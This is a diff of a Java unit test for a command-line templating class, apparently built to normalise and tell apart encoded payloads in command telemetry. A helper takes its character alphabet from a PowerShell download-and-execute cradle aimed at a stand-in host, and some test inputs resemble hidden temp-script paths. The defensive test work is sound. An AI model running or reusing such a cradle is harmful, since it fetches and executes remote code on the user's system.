@@ -1,14 +1,23 @@
 package dev.longtail.udfs.core;
 
+import static java.nio.charset.StandardCharsets.UTF_16LE;
+import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.Base64;
+import java.util.HashSet;
+import java.util.HexFormat;
 import java.util.List;
+import java.util.Random;
+import java.util.Set;
 import java.util.concurrent.TimeUnit;
 import java.util.concurrent.atomic.AtomicInteger;
+import java.util.function.Function;
 import java.util.regex.Matcher;
 import java.util.regex.Pattern;
 import net.jqwik.api.Arbitraries;
@@ -20,6 +29,7 @@ import org.junit.jupiter.api.Assumptions;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.Timeout;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.EnumSource;
 import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
@@ -68,6 +78,49 @@ class CommandTemplateTest {
         .isNotEqualTo(CommandTemplate.of("(72,101,108,108,111,33,33,34)"));
   }
 
+  /** Of payloads of 24 bytes or more, all written in one way, no two may share a template. */
+  @ParameterizedTest
+  @EnumSource
+  void payloadsOfAnyWritingAreToldApart(Writing writing) {
+    Random random = new Random(11);
+    Set<String> payloads = new HashSet<>();
+    Set<String> templates = new HashSet<>();
+    for (int i = 0; i < 3000; i++) {
+      byte[] bytes = new byte[24 + random.nextInt(100)];
+      random.nextBytes(bytes);
+      String payload = writing.write.apply(bytes);
+      payloads.add(payload);
+      templates.add(CommandTemplate.of("tool -x " + payload + " -q"));
+    }
+    assertThat(templates).hasSameSizeAs(payloads);
+  }
+
+  private enum Writing {
+    BASE64(bytes -> Base64.getEncoder().encodeToString(bytes)),
+    BASE64_URL(bytes -> Base64.getUrlEncoder().withoutPadding().encodeToString(bytes)),
+    BASE64_OF_TEXT(bytes -> Base64.getEncoder().encodeToString(text(bytes).getBytes(UTF_8))),
+    BASE64_OF_UTF16(bytes -> Base64.getEncoder().encodeToString(text(bytes).getBytes(UTF_16LE))),
+    HEXADECIMAL(bytes -> HexFormat.of().formatHex(Arrays.copyOf(bytes, 60))),
+    NUMBERS(bytes -> HexFormat.ofDelimiter(", ").withPrefix("0x").formatHex(bytes)),
+    ESCAPES(bytes -> HexFormat.of().withPrefix("\\x").formatHex(bytes));
+
+    @SuppressWarnings("ImmutableEnumChecker") // the functions hold nothing
+    private final Function<byte[], String> write;
+
+    Writing(Function<byte[], String> write) {
+      this.write = write;
+    }
+
+    private static String text(byte[] bytes) {
+      String characters = "IEX(New-Object Net.WebClient).DownloadString('http://a.b/c') | sort -u";
+      StringBuilder text = new StringBuilder();
+      for (byte b : bytes) {
+        text.append(characters.charAt((b & 0xff) % characters.length()));
+      }
+      return text.toString();
+    }
+  }
+
   @Test
   void collapsesWhiteSpaceAndKeepsCase() {
     assertThat(CommandTemplate.of("  Get-Item \t X\r\n| \u00a0 ft  ")).isEqualTo("Get-Item X | ft");
@@ -86,6 +139,23 @@ class CommandTemplateTest {
     String line = "a <num> <b64:0123456789abcdef> <guid>x <tmp>.sh <no> <num";
     assertThat(CommandTemplate.of(line)).isEqualTo(line);
     assertThat(CommandTemplate.of("<b64:0123>")).isEqualTo("<b<num>:<num>>");
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "/9.bob@h.com",
+        "<num>9.bob@h.com",
+        "<num>a/SGVsbG8gV29ybGQhIEhvdyBhcmUgeW91",
+        "9a/SGVsbG8gV29ybGQhIEhvdyBhcmUgeW91+abc",
+        "9/home/bob",
+        "5&1 <num>&1 2<num> 2>&1",
+        "/tmp/.<num>x.sh",
+        "x9-deadbeef-a3f2-a3f2-a3f2-abcdefabcdef"
+      })
+  void isIdempotentWhereAPlaceholderAdjoins(String line) {
+    String template = CommandTemplate.of(line);
+    assertThat(CommandTemplate.of(template)).isEqualTo(template);
   }
 
   @Property(tries = 5000)
